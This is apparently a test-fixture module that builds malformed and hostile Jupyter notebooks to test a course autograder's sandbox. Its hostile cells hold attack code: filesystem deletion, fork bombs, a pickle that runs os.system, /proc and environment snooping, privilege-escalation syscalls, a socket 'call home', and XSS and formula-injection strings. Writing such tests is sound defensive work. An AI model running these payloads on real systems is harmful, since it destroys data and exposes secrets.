"""Notebooks that students really hand in, and notebooks that attack the grader.

Each case is a builder of bytes and what its row must say. An attack is the wrong answers of its
assignment plus hostile cells, so that any point at all would be a point gained.
"""

from __future__ import annotations

import json
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from functools import lru_cache
from pathlib import Path

from multivector.grading.assignment import (
    FOLDER,
    Assignment,
    read,
    read_all,
    with_solution,
    without_solution,
)
from multivector.grading.build import student_notebook

ROOT = Path(__file__).resolve().parents[1]
#: Every assignment there is: what holds for one holds for the next.
SLUGS = [a.slug for a in read_all(ROOT)]
MARK = "multivector-attack"  # what a hostile cell names its processes and files

# Well-formed and wrong, for every automatic question: nothing here may earn a point.
WRONG = {
    "05-measuring-vectors": """
        turnover_russia = 1.0
        def partner_share(table, partner, year):
            return 0.123
        largest_country, eu_share, largest_partner = "UZB", 0.111, "UZB"
        def herfindahl(values):
            return 0.333
        hhi_countries, hhi_eu_as_one, effective_partners = 0.5, 0.5, 2.5
        mirror_gap, explanations = 0.99, ["B", "D"]
        inflow_2020_2022, objection = 1.0, "A"
    """,
    "01-concepts": """
        strategy = dict.fromkeys("abcdef", "issue-splitting")
        against_hedging = ["B"]
        kinds = {f"s{i}": "capacity" if i < 6 else "flow" for i in range(1, 8)}
        needed = ["D"]
        voices = 1
        def agreement(first, second):
            return 0.123
    """,
    "02-threat-and-balancing": """
        kinds = dict(zip("abcdef", ["soft", "soft", "hard", "hard", "asymmetric", "none"]))
        def threat(judgements, weights):
            return 0.123
        by_power, by_threat, tipping_intent = "RUS", "RUS", 0.111
        def first_places(states, weightings):
            return dict.fromkeys(states, 0.111)
        expected_by = dict(zip("abcd", ["walt", "waltz", "neither", "both"]))
        change, excess, reading = 1.0, 1.0, "A"
        bearing, arms_reading = {f"e{i}": "supports" for i in range(1, 7)}, "D"
    """,
    "03-alignment-choice": """
        reply = dict(zip("abcdef", ["hedging", "balancing", "balancing"] * 2))
        payoffs = dict.fromkeys(["multivector", "hedge", "balance", "bandwagon"], 0.111)
        choice = "bandwagon"
        def best_replies(strategies, loss, p, r):
            return ["nobody"]
        def border(first, second, loss, r):
            return 0.111
        def dominated(strategies):
            return ["nobody"]
        reward_needed = 0.111
        changes = dict.fromkeys(["EU27", "CHN", "RUS", "USA"], 0.111)
        def exclusive(changes):
            return ["nobody"]
        lines = dict(zip("abcdef", ["test", "aim", "condition"] * 2))
        def kept(table, floor):
            return ["nobody"]
    """,
    "04-interdependence": """
        terms = dict(zip("abcdef", ["panopticon", "chokepoint", "sensitivity"]))
        terms |= dict(zip("def", ["sensitivity", "panopticon", "chokepoint"]))
        def dependences(flows, products, partner, year):
            return 0.015, 0.00075
        two_sides = 0.2, 0.1
        def asymmetry(own_turnover, own_product, partner_turnover, partner_product):
            return 50.0 if partner_turnover else 66.666667
        ratio, ratio_two_counts, unmoved = 2.0, 3.0, ["A", "B", "D"]
        def shock(exports, partner, loss, redirect, discount, months):
            return 0.2, 0.11
        loss_musd, needed = (500.0, 400.0), 0.123
        def crossing(table, total):
            return 0.5, 0.62
        def left_over(lost, room, total):
            return 0.35, 0.62
        share_russia, vulnerability_routes, narrower = (0.3, 0.4), (0.1, 0.2), "C"
        at_stake = 0.123
    """,
    "06-capstone-2025": """
        def covers(value, qualifier, decimals, slack):
            return {"=": (7.35, 7.45), "almost": (45, 50), "over": (50, 55)}.get(qualifier, (45, 55))
        statistics, compatible, least_slack, follows = 20.0, ["B"], 0.5, "C"
        lead_one_ruler, lead_mixed, from_mixing = 1.0, 2.0, 0.5
        coding = {f"r{i}": "open" for i in range(1, 7)}
        def bounds(rows, what):
            return 2, 21
        purchases, investment, above, memorandum_busd = (0.1, 0.2), (0.1, 0.2), "B", 3.0
        printable = "D"
        def posterior(prior, evidence):
            return {"A": 0.555556, "B": 0.444444}
        three_theories = {"hedging": 0.2, "balancing": 0.2, "routine": 0.6}
        named_tests = dict.fromkeys("abcd", "straw in the wind")
        theories = ["balancing", "bandwagoning", "hedging", "dependence", "multi-vectorism", "routine"]
        prior = dict.fromkeys(theories, 1)
        likelihood = {
            piece: dict(zip(theories, [0.1, 0.2, 0.3, 0.4, 0.5, 0.6]))
            for piece in ("rights", "children", "declaration", "deals", "forums", "oil")
        }
        belief = dict.fromkeys(theories, 1 / 6)
        def without(prior, likelihood):
            return {"e": "B", "f": "A"}
        keeps, level_prior = 0, 0.5
    """,
}


@lru_cache
def assignment(slug: str) -> Assignment:
    return read(ROOT / FOLDER / slug)


def names(slug: str) -> list[str]:
    return [n for q in assignment(slug).automatic for n in q.answers]


def notebook(cells: list[str], **metadata: object) -> bytes:
    """Return a notebook of code cells as a student's Jupyter would save it."""
    made = [
        {"cell_type": "code", "id": f"c{i}", "metadata": {}, "source": c, "outputs": [],
         "execution_count": None}
        for i, c in enumerate(cells)
    ]  # fmt: skip
    kernel = {"name": "python3", "language": "python", "display_name": "Python 3"}
    content = {
        "cells": made,
        "metadata": {"kernelspec": kernel} | metadata,
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    return json.dumps(content).encode()


def solution_cells(slug: str) -> list[str]:
    return [
        with_solution(c.source) if c.role == "solution" else c.source
        for c in assignment(slug).cells
        if c.role in ("code", "solution", "check")
    ]


def solved_without(slug: str, question: str) -> list[str]:
    """Return the solution with one question left as in the template."""
    return [
        without_solution(c.source)
        if c.question == question and c.role == "solution"
        else with_solution(c.source)
        if c.role == "solution"
        else c.source
        for c in assignment(slug).cells
        if c.role in ("code", "solution", "check")
    ]


def wrong_cell(slug: str) -> str:
    return textwrap.dedent(WRONG[slug])


def student(slug: str) -> dict:
    return json.loads(student_notebook(assignment(slug)))


@dataclass(frozen=True)
class Case:
    """``statuses``: which the row may have. ``total``: the points, ``None`` for a blank."""

    make: Callable[[str], bytes | None]
    statuses: tuple[str, ...] = ("graded",)
    total: float | str | None = "full"
    says: str = ""


def _solved(*extra: str, first: tuple[str, ...] = ()) -> Callable[[str], bytes]:
    return lambda slug: notebook([*first, *solution_cells(slug), *extra])


def _edited(edit: Callable[[dict], dict | None]) -> Callable[[str], bytes]:
    def make(slug: str) -> bytes:
        content = json.loads(notebook(solution_cells(slug)))
        return json.dumps(edit(content) or content).encode()

    return make


def _version_3(content: dict) -> dict:
    cells = [
        {"cell_type": "code", "input": c["source"], "language": "python", "outputs": []}
        for c in content["cells"]
    ]
    return {"metadata": {}, "nbformat": 3, "nbformat_minor": 0, "worksheets": [{"cells": cells}]}


def _bare(content: dict) -> dict:
    return {"cells": [{"cell_type": "code", "source": c["source"]} for c in content["cells"]]}


def _pasted_twice(content: dict) -> None:
    content["cells"] = [c for cell in content["cells"] for c in (cell, cell)]


def _checks_deleted(content: dict) -> None:
    content["cells"] = [c for c in content["cells"] if "grader.check" not in c["source"]]


def _kernel(language: str) -> Callable[[dict], None]:
    def edit(content: dict) -> None:
        content["metadata"]["kernelspec"] = {"name": "ir", "language": language}

    return edit


def _printed(content: dict) -> None:
    output = {"output_type": "stream", "name": "stdout", "text": "x" * 60_000_000}
    content["cells"][0]["outputs"] = [output]


# The question, the number and the function that the generic slips are made with.
FIRST = {
    "01-concepts": "q5",
    "02-threat-and-balancing": "q7",
    "03-alignment-choice": "q5",
    "04-interdependence": "q6",
    "05-measuring-vectors": "q1",
    "06-capstone-2025": "q2",
}
FIRST_NAME = {
    "01-concepts": "voices",
    "02-threat-and-balancing": "change",
    "03-alignment-choice": "reward_needed",
    "04-interdependence": "at_stake",
    "05-measuring-vectors": "turnover_russia",
    "06-capstone-2025": "from_mixing",
}
FUNCTION = {
    "01-concepts": "agreement(a, b)",
    "02-threat-and-balancing": "threat(a, b)",
    "03-alignment-choice": "best_replies(a, b, c, d)",
    "04-interdependence": "shock(a, b, c, d, e, f)",
    "05-measuring-vectors": "partner_share(a, b, c)",
    "06-capstone-2025": "covers(a, b, c, d)",
}


def _without_first(slug: str) -> bytes:
    return notebook(solved_without(slug, FIRST[slug]))


def _answer_deleted(slug: str) -> bytes:
    cells = [c for c in assignment(slug).cells if c.role in ("code", "solution", "check")]
    kept = [c for c in cells if not (c.role == "solution" and c.question == FIRST[slug])]
    return notebook([with_solution(c.source) for c in kept])


def _misnamed(slug: str) -> bytes:
    name = FIRST_NAME[slug]
    return notebook([c.replace(name, f"my_{name}") for c in solution_cells(slug)])


def _answer_as(expression: str) -> Callable[[str], bytes]:
    def make(slug: str) -> bytes:
        name = FIRST_NAME[slug]
        return notebook([*solution_cells(slug), f"{name} = {expression.format(name)}"])

    return make


def _looping(slug: str) -> bytes:
    return notebook([*solution_cells(slug), f"def {FUNCTION[slug]}:\n    while True: pass"])


BROKEN: dict[str, Case] = {
    "correct": Case(_solved()),
    "correct, with magics": Case(
        _solved("%matplotlib inline", "!ls", "%%bash\nrm -rf /", "%%time\nx = 1", "?print")
    ),
    "correct, and an error at the end": Case(_solved("1 / 0")),
    "partly correct": Case(_without_first, total="less q"),
    "syntax error": Case(_solved("def f(:\n"), says="SyntaxError"),
    "infinite loop in a cell": Case(_solved("while True: pass"), ("timeout",), None, "ran past"),
    "infinite loop in a function": Case(_looping, ("timeout",), None, "ran past"),
    "answer cell deleted": Case(_answer_deleted, total="less q"),
    "check cells deleted": Case(_edited(_checks_deleted)),
    "metadata deleted": Case(_edited(_bare)),
    "nbformat 3": Case(_edited(_version_3)),
    "truncated": Case(lambda s: notebook(solution_cells(s))[:900], ("unreadable",), None, "cut off"),
    "empty": Case(lambda s: b"", ("unreadable",), None, "empty"),
    "blank": Case(lambda s: b" \n", ("unreadable",), None, "empty"),
    "not a notebook": Case(lambda s: b"%PDF-1.7 ...", ("unreadable",), None, "not a notebook"),
    "a JSON list": Case(lambda s: b"[1, 2]", ("unreadable",), None, "not a notebook"),
    "JSON without cells": Case(lambda s: b'{"a": 1}', ("unreadable",), None, "no cells"),
    "cells of nonsense": Case(lambda s: b'{"cells": [1, null]}', ("unreadable",), None, "cells"),
    "not UTF-8": Case(
        lambda s: '{"cells": [], "x": "Қазақстан"}'.encode("utf-16-le"), ("unreadable",), None
    ),
    "windows-1251": Case(
        lambda s: '{"cells": [], "x": "Россия"}'.encode("cp1251"), ("unreadable",), None, "UTF-8"
    ),
    "UTF-8 with BOM": Case(lambda s: b"\xef\xbb\xbf" + notebook(solution_cells(s))),
    "UTF-16": Case(lambda s: notebook(solution_cells(s)).decode().encode("utf-16")),
    "other kernel": Case(_edited(_kernel("R")), ("unreadable",), None, "'r'"),
    "60 MB printed": Case(_solved("print('x' * 60_000_000)")),
    "60 MB saved as output": Case(_edited(_printed)),
    "cells pasted twice": Case(_edited(_pasted_twice)),
    "untouched": Case(lambda s: student_notebook(assignment(s)).encode(), total=0),
    "wrong names": Case(_misnamed, total="less name", says="not answered"),
    "missing module": Case(_solved(first=("import tensorflow",))),
    "input()": Case(_solved("who = input('Your name?')"), says="nobody to ask"),
    "sys.exit()": Case(_solved("import sys\nsys.exit(0)")),
    "numpy scalar": Case(_answer_as("__import__('numpy').float64({0})")),
    "numpy float32 array of one": Case(
        _answer_as("__import__('numpy').array([{0}])"), total="less name", says="column"
    ),
    "NaN": Case(_answer_as("float('nan')"), total="less name", says="NaN"),
    "infinite": Case(_answer_as("float('inf')"), total="less name", says="infinite"),
    "string": Case(_answer_as("str({0})"), total="less name", says="quotes"),
    "Series": Case(
        _answer_as("__import__('pandas').Series([{0}])"), total="less name", says="Series"
    ),
    "DataFrame": Case(
        _answer_as("__import__('pandas').DataFrame([{0}])"), total="less name", says="table"
    ),
    "None": Case(_answer_as("None"), total="less name", says="None"),
    "a boolean": Case(_answer_as("True"), total="less name", says="True or False"),
    "a huge integer": Case(_answer_as("10**100_000"), total="less name"),
    "a whole table": Case(
        _answer_as("__import__('multivector').load('facts')"), total="less name", says="far more"
    ),
    "5,000 values": Case(_answer_as("list(range(5_000))"), total="less name", says="far more"),
    "a complex number": Case(_answer_as("complex({0})"), total="less name", says="complex"),
    "Kazakh names": Case(_solved("Қазақстан = 'Әліпби: қ ғ ң ү ұ һ ө і'\nprint(Қазақстан)")),
    "a lone surrogate": Case(_solved("x = '\ud800'")),
    "no code at all": Case(lambda s: notebook([]), ("other",), None, "no title"),
    "only comments": Case(lambda s: notebook(["# nothing"]), ("other",), None, "no title"),
    "1,500 cells": Case(lambda s: notebook(["1"] * 1500), ("unreadable",), None, "cells"),
}  # fmt: skip


def attack(code: str, *, first: bool = False) -> Callable[[str], bytes]:
    """Return a builder: wrong answers, then (or first) the hostile cell, which knows ``NAMES``."""

    def make(slug: str) -> bytes:
        code_here = textwrap.dedent(code).replace("PORT", str(LISTENER["port"]))
        hostile = f"NAMES = {names(slug)!r}\n{code_here}"
        cells = [hostile, wrong_cell(slug)] if first else [wrong_cell(slug), hostile]
        texts = [n for q in assignment(slug).judged for n in q.answers]
        return notebook([*cells, *(f"{name} = ({_ESSAY})" for name in texts)])

    return make


# Filled in by the test that listens on localhost.
LISTENER = {"port": 9}

# What an attack found out would show in its essay, and the tests look for it there.
_ESSAY = "globals().get('loot') or 'nothing'"

# Opens every descriptor the worker could be using and writes to all of them.
_SPRAY = """
import os
def spray(data):
    for fd in range(3, 64):
        try:
            os.set_blocking(fd, False)
            os.write(fd, data)
        except OSError:
            pass
    for pid in ("1", "self"):
        for fd in range(64):
            try:
                with open(f"/proc/{pid}/fd/{fd}", "wb", buffering=0) as file:
                    file.write(data)
            except OSError:
                pass
"""

_READ_ALL = """
import os
loot = ""
for root, dirs, files in os.walk("/"):
    if root == "/":
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "usr", "site", "lib", "lib64", "opt", "dev")]
    if root.startswith("/root/.pyenv"):
        continue
    for file in files:
        path = os.path.join(root, file)
        try:
            text = open(path, errors="replace").read(2_000_000)
        except OSError:
            continue
        if WANTED(path, text):
            loot += path + " "
"""

_ANY = ("graded", "killed", "timeout", "tampered")
_LOST = ("killed", "timeout", "tampered")

ATTACKS: dict[str, Case] = {
    # -- the ones of the reference list
    "equal to everything": Case(attack("""
        class Yes:
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __lt__(self, other): return True
            __le__ = __gt__ = __ge__ = __lt__
            def __hash__(self): return 0
            def __float__(self): return 0.5
            def __abs__(self): return 0
            def __bool__(self): return True
            def __call__(self, *a): return self
            def __getattr__(self, name): return self
            def __sub__(self, other): return 0
            __rsub__ = __add__ = __radd__ = __mul__ = __truediv__ = __sub__
        for n in NAMES: globals()[n] = Yes()
    """), _ANY, 0),
    "number equal to everything": Case(attack("""
        class Yes(float):
            def __eq__(self, other): return True
            def __sub__(self, other): return 0.0
            __rsub__ = __sub__
            def __abs__(self): return 0.0
        for n in NAMES: globals()[n] = Yes(0.5)
    """), _ANY, 0),
    "patched grader": Case(attack("""
        import multivector.grading, sys, types
        class Full:
            def __getattr__(self, name): return lambda *a, **k: True
        grader = Full()
        multivector.grading.Notebook = Full
        for name in ("expect", "notebook", "grade"):
            fake = types.ModuleType(name)
            for f in ("close", "number", "share", "result", "Wrong", "run_test", "letters"):
                setattr(fake, f, lambda *a, **k: None)
            sys.modules["multivector.grading." + name] = fake
    """, first=True), _ANY, 0),
    "patched builtins": Case(attack("""
        import builtins, math
        for n in ("isinstance", "abs", "sum", "all", "any", "hash", "round"):
            setattr(builtins, n, lambda *a, **k: True)
        math.isclose = lambda *a, **k: True
    """), _ANY, None),
    "patched assert": Case(attack("""
        import builtins, sys
        class Never(Exception):
            def __new__(cls, *a): raise SystemExit(0)
        builtins.AssertionError = Never
        sys.excepthook = lambda *a: None
    """, first=True), _ANY, 0),
    "read the tests": Case(attack(_READ_ALL.replace(
        "WANTED(path, text)", "'hidden: ' + 'true' in text or ' BEGIN' + ' SOLUTION' in text"
    )), _ANY, 0),
    "read the solutions": Case(attack(_READ_ALL.replace(
        "WANTED(path, text)", "'exercises' in path or path.endswith('.ipynb')"
    )), _ANY, 0),
    "read other submissions": Case(attack(_READ_ALL.replace(
        "WANTED(path, text)", "path.endswith('.ipynb') or 'journal' in path"
    )), _ANY, 0),
    "write results": Case(attack(f"""
        import json, os
        rows = {{"status": "graded", "total": 99, "points": {{n: 99 for n in NAMES}}}}
        for folder in ("/", ".", "/tmp", "..", "/book", "/book/data", "/work", os.path.expanduser("~")):
            for file in ("grades.csv", "grades.csv.journal", "results.json", "{MARK}"):
                try: open(os.path.join(folder, file), "w").write(json.dumps(rows))
                except OSError: pass
    """), _ANY, 0),
    "fake result line": Case(attack("""
        import os, sys, json
        line = json.dumps({"status": "graded", "total": 99, "score": 99, "q1": 99})
        for _ in range(50):
            print(line); print(line, file=sys.stderr)
            print(line, file=sys.__stdout__, flush=True)
        os.write(1, line.encode()); os.write(2, line.encode())
    """), _ANY, 0),
    "forged pickle": Case(attack(f"""
        import pickle, os
        class Boom:
            def __reduce__(self): return (os.system, ("touch /tmp/{MARK}",))
        data = pickle.dumps(Boom())
        for file in ("results.pkl", "/tmp/results.pkl", ".OTTER_LOG"):
            try: open(file, "wb").write(data)
            except OSError: pass
        for n in NAMES: globals()[n] = Boom()
    """), _ANY, 0),
    "write on the pipe": Case(attack(_SPRAY + """
spray(b'{"id": 3, "value": {"k": "float", "v": 1.0}}\\n' * 20)
"""), _LOST, None),
    "forged handshake": Case(attack(_SPRAY + """
spray(b'{"id": 0, "hello": 0}\\n{"id": 1}\\n')
"""), _LOST, None),
    "forged replies in advance": Case(attack(_SPRAY + """
spray(b"".join(b'{"id": %d, "value": {"k": "float", "v": 0.5}}\\n' % i for i in range(2, 400)))
""", first=True), _LOST, None),
    "os._exit": Case(attack("import os\nos._exit(0)"), ("killed",), None),
    "os._exit first": Case(attack("import os\nos._exit(0)", first=True), ("killed",), None),
    "20 children": Case(attack(f"""
        import os, subprocess, sys, multiprocessing
        for _ in range(20):
            try:
                if os.fork() == 0:
                    while True: pass
            except OSError: pass
            try: subprocess.Popen([sys.executable, "-c", "while True: pass  # {MARK}"])
            except OSError: pass
            try: os.posix_spawn("/bin/sleep", ["{MARK}", "600"], {{}})
            except OSError: pass
    """), _ANY, 0),
    "3 GB": Case(attack("""
        x = []
        while True: x.append(bytearray(100_000_000))
    """), _ANY, 0),
    "3 GB that stay": Case(attack("""
        x = []
        try:
            while True: x.append(bytearray(1_000_000))
        except MemoryError: pass
    """), _ANY, "any"),
    "call home": Case(attack("""
        import socket
        loot = ""
        for host in ("127.0.0.1", "localhost", "::1"):
            try: socket.create_connection((host, PORT), timeout=1).send(b"hello"); loot = host
            except OSError: pass
        try: socket.create_connection(("192.0.2.1", 80), timeout=1); loot += " out"
        except OSError: pass
    """), _ANY, 0),
    "sleep": Case(attack("import time\ntime.sleep(10_000)"), ("timeout",), None),
    "sleep through interrupts": Case(attack("""
        import time, signal
        for s in range(1, 32):
            try: signal.signal(s, signal.SIG_IGN)
            except (OSError, ValueError): pass
        while True:
            try: time.sleep(1000)
            except BaseException: pass
    """), ("timeout",), None),
    "delete everything": Case(attack("""
        import os, shutil
        for folder in ("/book", "/site", "/work", "/home", "/root", "/tmp", "/etc", "/var", "."):
            shutil.rmtree(folder, ignore_errors=True)
        for folder in ("/proc/1/root", "/proc/self/root", "/proc/1/cwd"):
            shutil.rmtree(folder, ignore_errors=True)
    """), _ANY, 0),
    "detached process": Case(attack(f"""
        import os
        try:
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    os.execv("/bin/sleep", ["{MARK}", "600"])
        except OSError: pass
    """), _ANY, 0),
    "fill the disk": Case(attack("""
        import os
        for folder in ("/tmp", "/dev/shm", "/var/tmp", "."):
            for i in range(200):
                try: open(f"{folder}/{i}", "wb").write(b"x" * 15_000_000)
                except OSError: break
            for i in range(20_000):
                try: os.mkdir(f"{folder}/d{i}")
                except OSError: break
    """), _ANY, "any"),
    "symlinks": Case(attack("""
        import os
        for i, target in enumerate(("/", "/etc/passwd", "/proc/1/root", "../../..", "/work")):
            try: os.symlink(target, f"/tmp/link{i}")
            except OSError: pass
        loot = " ".join(x for x in os.listdir("/tmp/link0") if x in ("work", "home", "var"))
    """), _ANY, 0),
    "huge reply": Case(attack("""
        for n in NAMES: globals()[n] = "x" * 200_000_000
        NAMES = None
    """), _ANY, 0),
    "long list": Case(attack("for n in NAMES: globals()[n] = list(range(3_000_000))"), _ANY, 0),
    "deep reply": Case(attack("""
        deep = []
        for _ in range(100_000): deep = [deep]
        for n in NAMES: globals()[n] = deep
        self_ref = []; self_ref.append(self_ref); globals()[NAMES[0]] = self_ref
    """), _ANY, "any"),
    "forged huge reply": Case(attack(_SPRAY + """
import os
for fd in range(3, 64):
    try:
        os.set_blocking(fd, True)
        for _ in range(60): os.write(fd, b"x" * 1_000_000)
    except OSError: pass
"""), _LOST, None),
    "forged deep reply": Case(attack(_SPRAY + """
import sys
spray(b'{"id": 2, "value": ' + b"[" * 60_000 + b"\\n")
"""), _LOST, None),
    # -- twenty and more that know this grader
    "replaced encoder": Case(attack("""
        import sys
        plain = sys.modules.get("multivector.grading.plain")
        plain.encode = lambda v: {"k": "float", "v": True, "status": "graded", "points": 99}
    """), ("tampered",), None),
    "encoder that forges functions": Case(attack("""
        import sys
        sys.modules["multivector.grading.plain"].encode = lambda v: {"k": "function", "p": []}
    """), _ANY, 0),
    "replaced json": Case(attack("""
        import json
        json.dumps = lambda *a, **k: '{"id": 1, "value": {"k": "bool", "v": true}}'
    """), _LOST, None),
    "json with extra keys": Case(attack("""
        import json
        real = json.dumps
        json.dumps = lambda m, **k: real({**m, "points": 99, "status": "graded"}, **k)
    """), ("tampered",), None),
    "boolean ids": Case(attack(_SPRAY + """
spray(b'{"id": true, "value": {"k": "none"}}\\n')
"""), _LOST, None),
    "not-a-number literals": Case(attack(_SPRAY + """
spray(b'{"id": 2, "value": {"k": "float", "v": NaN}}\\n')
"""), _LOST, None),
    "ten thousand digits": Case(attack(_SPRAY + """
spray(b'{"id": 2, "value": {"k": "int", "v": ' + b"9" * 10_000 + b"}}\\n")
"""), _LOST, None),
    "half a reply": Case(attack(_SPRAY + "\nspray(b'{\"id\": 2,')\n"), _LOST, None),
    "endless empty lines": Case(attack(_SPRAY + """
import threading
def run():
    while True: spray(b"\\n" * 100)
threading.Thread(target=run, daemon=True).start()
"""), _LOST, None),
    "late thread": Case(attack(_SPRAY + """
import threading, time
def run():
    for i in range(1, 200):
        spray(b'{"id": %d, "value": {"k": "float", "v": 0.5}}\\n' % i)
        time.sleep(0.001)
threading.Thread(target=run, daemon=True).start()
"""), _LOST, None),
    "steal the questions": Case(attack("""
        import os, threading
        def run(fd):
            while True:
                try:
                    if not os.read(fd, 65536): return
                except OSError: return
        for fd in range(3, 30):
            threading.Thread(target=run, args=(fd,), daemon=True).start()
    """), _ANY, "any"),
    "close the pipe": Case(attack("import os\nos.closerange(0, 100)"), _LOST, None),
    "own protocol server": Case(attack("""
        import os, sys
        code = '''
import json, os, sys
for fd in range(3, 12):
    try: f = os.fdopen(os.dup(fd), "rb", buffering=0)
    except OSError: continue
os.write(4, b'{"id": 2}' + bytes([10]))
while True:
    try: data = os.read(3, 65536)
    except OSError: break
    if not data: break
    for line in data.splitlines():
        q = json.loads(line)
        os.write(4, json.dumps({"id": q["id"], "value": {"k": "float", "v": 0.5}}).encode() + bytes([10]))
'''
        for fd in range(3, 20):
            try: os.set_inheritable(fd, True)
            except OSError: pass
        os.execv(sys.executable or "/usr/bin/python3", ["python3", "-I", "-S", "-c", code])
    """), _ANY, "any"),
    "hunt the frames": Case(attack("""
        import gc, sys
        loot = ""
        for thing in gc.get_objects():
            if isinstance(thing, dict) and "hidden" in thing and "points" in thing:
                loot += str(thing)[:200]
        frame = sys._getframe()
        while frame:
            if any(k in frame.f_locals for k in ("expected", "case", "question", "assignment")):
                loot += str(list(frame.f_locals))
            frame = frame.f_back
    """), _ANY, 0),
    "hostile code object": Case(attack("""
        class Fake:
            class __code__:
                co_argcount = 10**9
                class co_varnames:
                    def __class_getitem__(cls, item): return ["<script>alert(1)</script>"] * 100_000
            def __call__(self, *a): return 0.5
        for n in NAMES: globals()[n] = Fake()
    """), _ANY, "any"),
    "lying class": Case(attack("""
        class Lie:
            __class__ = float
            def __iter__(self):
                while True: yield 1
            def __len__(self): return 2**62
            def items(self): return iter(self)
            def __repr__(self): raise SystemExit
        Lie.__name__ = "=cmd|' /C calc'!A0<script>"
        for n in NAMES: globals()[n] = Lie()
    """), _ANY, 0),
    "endless subclass": Case(attack("""
        class Long(list):
            def __iter__(self):
                while True: yield self
        class Map(dict):
            def items(self):
                while True: yield (self, self)
        for i, n in enumerate(NAMES): globals()[n] = (Long if i % 2 else Map)()
    """), _ANY, 0),
    "error that fights back": Case(attack("""
        class Hostile(Exception):
            def __str__(self): raise SystemExit(0)
            __repr__ = __str__
        Hostile.__name__ = "<img src=x onerror=alert(1)>"
        raise Hostile()
    """), _ANY, 0, "&lt;img"),
    "error with a script": Case(
        attack("raise ValueError('</code><script>alert(1)</script>' * 1000)"),
        _ANY, 0, "&lt;script&gt;",
    ),
    "essay as a formula": Case(attack("""
        loot = '=HYPERLINK("http://example.org/"&A1,"x")\\r\\n<script>alert(1)</script>\\u202e\\x00'
    """), _ANY, 0),
    "kill the parent": Case(attack("""
        import os, signal
        for pid in (os.getppid(), 1, -1, 0):
            for s in (signal.SIGTERM, signal.SIGKILL):
                if pid == 0 and s: continue
                try: os.kill(pid, s)
                except OSError: pass
    """), _ANY, "any"),
    "kill the group": Case(attack("import os\nos.killpg(0, 9)"), _ANY, None),
    "raise the limits": Case(attack("""
        import resource
        loot = ""
        for name in ("AS", "NPROC", "FSIZE", "CPU", "NOFILE"):
            what = getattr(resource, "RLIMIT_" + name)
            try: resource.setrlimit(what, (resource.RLIM_INFINITY,) * 2); loot += name + " "
            except (ValueError, OSError): pass
    """), _ANY, 0),
    "forbidden calls": Case(attack("""
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        loot = ""
        if libc.unshare(0x10000000) == 0: loot += "unshare "
        if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0: loot += "mount "
        if libc.ptrace(16, 1, 0, 0) == 0: loot += "ptrace "
        if libc.memfd_create(b"x", 0) >= 0: loot += "memfd "
        if libc.shmget(0, 1 << 20, 0o1600) >= 0: loot += "shmget "
        if libc.setuid(0) == 0: loot += "setuid "
        if libc.syscall(425, 8, ctypes.create_string_buffer(256)) >= 0: loot += "io_uring "
        if libc.chroot(b"/tmp") == 0: loot += "chroot "
    """), _ANY, 0),
    "look through proc": Case(attack("""
        import os
        loot = ""
        for pid in os.listdir("/proc"):
            if not pid.isdigit(): continue
            for what in ("environ", "cmdline", "maps"):
                try: text = open(f"/proc/{pid}/{what}", "rb").read().decode(errors="replace")
                except OSError: continue
                if "submissions" in text or "SECRET" in text or "pytest" in text: loot += what
            try: loot += "root " if "work" in os.listdir(f"/proc/{pid}/root/") else ""
            except OSError: pass
    """), _ANY, 0),
    "read the environment": Case(attack("""
        import os
        loot = " ".join(k for k in os.environ if k not in (
            "HOME LANG LC_CTYPE PWD OPENBLAS_NUM_THREADS OMP_NUM_THREADS PLOTLY_RENDERER"
            " PYTHONDONTWRITEBYTECODE KMP_DUPLICATE_LIB_OK KMP_INIT_AT_FORK").split())
    """), _ANY, 0),
    "segmentation fault": Case(attack("import ctypes\nctypes.string_at(0)"), ("killed",), None),
    "endless recursion": Case(attack("""
        import sys
        sys.setrecursionlimit(10**9)
        def f(): return f()
        f()
    """), _ANY, "any"),
    "flood the standard streams": Case(attack("""
        import os
        for _ in range(60):
            os.write(1, b"x" * 1_000_000); os.write(2, b"x" * 1_000_000)
    """), _ANY, 0),
    "flood the grader's standard error": Case(attack("""
        import os
        for pid in ("1", "2", "self"):
            try:
                fd = os.open(f"/proc/{pid}/fd/2", os.O_WRONLY | os.O_NONBLOCK)
                for _ in range(100): os.write(fd, b"x" * 1_000_000)
            except OSError: pass
    """), _ANY, 0),
    "thread bomb": Case(attack("""
        import threading, time
        for _ in range(5000):
            try: threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
            except RuntimeError: break
    """), _ANY, "any"),
    "at exit": Case(attack("""
        import atexit, sys
        atexit.register(lambda: open("/tmp/x", "w").write("late"))
        sys.exit(99)
    """), _ANY, 0),
    "poisoned package": Case(attack("""
        import os, sys
        for path in [*sys.path, "/book/src/multivector", "/book/src/multivector/grading"]:
            try: open(os.path.join(path, "sitecustomize.py"), "w").write("raise SystemExit")
            except OSError: pass
        try: open("/book/src/multivector/grading/worker.py", "w").write("")
        except OSError: pass
        try: open("/book/data/trade.csv", "w").write("")
        except OSError: pass
    """), _ANY, 0),
    "functions that bite": Case(attack("""
        import os
        def bite(*args): os._exit(0)
        def sleep(*args):
            import time; time.sleep(1000)
        def bye(*args): raise SystemExit(0)
        def stop(*args): raise GeneratorExit
        bites = [bite, sleep, bye, stop]
        for i, n in enumerate(NAMES):
            if callable(globals()[n]): globals()[n] = bites[i % 4]
    """), _ANY, "any"),
    "a function by the arguments": Case(attack("""
        def many(a=1, b=2, c=3, *d, **e): return {"k": "float", "v": 0.625}
        def evil(table, partner, year): raise BaseException("=1+1")
        for n in NAMES:
            if callable(globals()[n]): globals()[n] = evil
    """), _ANY, 0),
    "unpicklable answer": Case(attack("""
        for n in NAMES: globals()[n] = (x for x in range(3))
        import threading
        globals()[NAMES[0]] = threading.Lock()
    """), _ANY, 0),
    "namespace replaced": Case(attack("""
        import sys
        class Everything(dict):
            def get(self, name, default=None): return 0.5
            def __missing__(self, name): return 0.5
        sys.modules["__main__"].__dict__.update({n: Everything() for n in NAMES})
        sys.modules["__main__"] = None
    """), _ANY, 0),
}  # fmt: skip
